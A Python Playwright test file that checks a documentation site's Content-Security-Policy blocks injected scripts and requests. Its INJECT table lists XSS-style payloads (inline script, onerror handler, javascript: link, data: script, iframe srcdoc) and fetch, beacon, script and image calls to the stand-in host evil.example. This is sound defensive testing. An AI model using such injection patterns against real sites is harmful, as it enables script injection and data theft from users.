"""The Content-Security-Policy: no page breaks it, and what the theme or the site does not bring can't run."""

import re

import pytest
from playwright.sync_api import expect

from scripts.content.editions import DEFAULT, EDITIONS
from tests.browser.places import LAB, PLACES, QUESTION
from tests.browser.waiting import wait_until

MISSING = "no/such/page/"
BLOCKED = "Content Security Policy"
REPORT = """window.broken = [];
document.addEventListener("securitypolicyviolation", (event) => broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));"""
INJECT = {
    "inline script": """() => { const script = document.createElement("script"); script.textContent = "window.ran = 1"; document.body.append(script); }""",
    "handler": """() => { document.body.insertAdjacentHTML("beforeend", '<img src="none.png" onerror="window.ran = 1">'); }""",
    "address": """() => { document.body.insertAdjacentHTML("beforeend", '<a id="j" href="javascript:window.ran = 1">x</a>'); document.getElementById("j").click(); }""",
    "eval": """() => { const button = document.createElement("button"); button.setAttribute("onclick", "window.ran = 1"); button.click(); }""",
    "script from elsewhere": """() => { const script = document.createElement("script"); script.src = "https://evil.example/a.js"; document.body.append(script); }""",
    "data script": """() => { const script = document.createElement("script"); script.src = "data:text/javascript,window.ran = 1"; document.body.append(script); }""",
    "request elsewhere": """() => { fetch("https://evil.example/").catch(() => {}); navigator.sendBeacon("https://evil.example/"); }""",
    "image from elsewhere": """() => { new Image().src = "https://evil.example/a.png"; }""",
    "frame": """() => { const frame = document.createElement("iframe"); frame.srcdoc = "<script>parent.ran = 1</script>"; document.body.append(frame); }""",
}


@pytest.mark.parametrize("edition", EDITIONS, ids=lambda edition: edition.code)
def test_no_page_type_breaks_the_policy(page, site, edition):
    page.add_init_script(REPORT)
    places = PLACES if edition == DEFAULT else {name: PLACES[name] for name in ("home", "question", "lab", "map")}
    for name, path in places.items():
        page.goto(site.url(edition.root + path))
        page.wait_for_timeout(150)
        assert page.evaluate("broken") == [], name
        assert page.evaluate("typeof __md_get") == "function", f"{name}: the theme's inline scripts did not run"


def test_the_404_page_keeps_its_styles(page, site, faults):
    page.add_init_script(REPORT)
    page.goto(site.url(MISSING))
    assert page.evaluate("broken") == []
    assert page.evaluate("parseFloat(getComputedStyle(document.body).maxWidth)") > 0
    faults.forgive("404")


def at(url: str) -> re.Pattern[str]:
    """The page, wherever it has been scrolled to: the theme puts the section into the address after a while."""
    return re.compile(re.escape(url) + r"(#[\w-]+)?$")


@pytest.mark.parametrize("edition", EDITIONS, ids=lambda edition: edition.code)
def test_search_navigation_and_scheme_work_under_it(page, site, edition):
    page.add_init_script(REPORT)
    page.goto(site.url(edition.root))
    page.evaluate("window.survives = true")
    for path in (QUESTION, LAB):
        page.locator(f'article a[href$="{path}"]').first.click()
        expect(page).to_have_url(at(site.url(edition.root + path)))
        page.locator("header a.md-logo").click()
        expect(page).to_have_url(at(site.url(edition.root)))
    page.keyboard.press("/")
    page.keyboard.type("GRPO")
    expect(page.locator(".search__result").first).to_be_visible()
    page.keyboard.press("Escape")
    page.locator('label[for="__palette_1"]:visible').click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    assert page.evaluate("survives"), "the page was loaded anew"
    assert page.evaluate("broken") == []


@pytest.mark.parametrize("path", [QUESTION, LAB, ""], ids=["question", "lab", "home"])
def test_what_is_put_into_a_page_does_not_run(page, site, faults, path):
    for name, attempt in INJECT.items():
        page.goto(site.url("en/" + path))
        page.evaluate(attempt)
        page.wait_for_timeout(100)
        assert page.evaluate("window.ran") is None, name
        faults.forgive(BLOCKED)
    faults.errors = [error for error in faults.errors if "404" not in error]  # of the missing image


def test_the_attempts_would_run_without_the_policy(open_page, site, faults):
    """Or the test above would prove nothing."""
    page = open_page(bypass_csp=True)
    for attempt in ("inline script", "handler", "address", "eval", "data script", "frame"):
        page.goto(site.url("en/"))
        page.evaluate(INJECT[attempt])
        wait_until(page, "window.ran === 1")
    faults.errors = [error for error in faults.errors if "404" not in error]
